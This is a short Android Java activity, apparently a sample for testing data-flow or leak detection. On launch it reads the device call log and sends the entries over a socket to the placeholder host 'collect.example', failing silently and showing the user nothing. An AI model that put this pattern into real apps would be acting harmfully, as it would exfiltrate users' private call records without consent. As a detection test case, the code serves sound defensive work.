package org.example.flows.phone;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.Socket;
import java.util.HashMap;

public class CallList extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        HashMap<String, String> calls = new HashMap<String, String>();
        Cursor rows = managedQuery(CallLog.Calls.CONTENT_URI, null, null, null, "date DESC");
        while (rows.moveToNext()) {
            calls.put(rows.getString(0), rows.getString(1));
        }
        try {
            Socket socket = new Socket("collect.example", 7001);
            ObjectOutputStream out = new ObjectOutputStream(socket.getOutputStream());
            out.writeObject(calls);
            out.close();
        } catch (IOException ignored) {
            finish();
        }
    }
}
